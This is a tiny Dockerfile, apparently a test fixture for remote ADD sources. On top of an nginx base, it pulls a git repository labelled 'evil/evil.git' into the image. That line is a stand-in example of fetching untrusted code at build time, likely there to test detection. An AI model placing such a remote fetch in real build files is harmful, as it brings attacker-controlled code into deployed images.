# dockerfile-remote: the same, from git
FROM nginx
ADD git@github.com:evil/evil.git /x
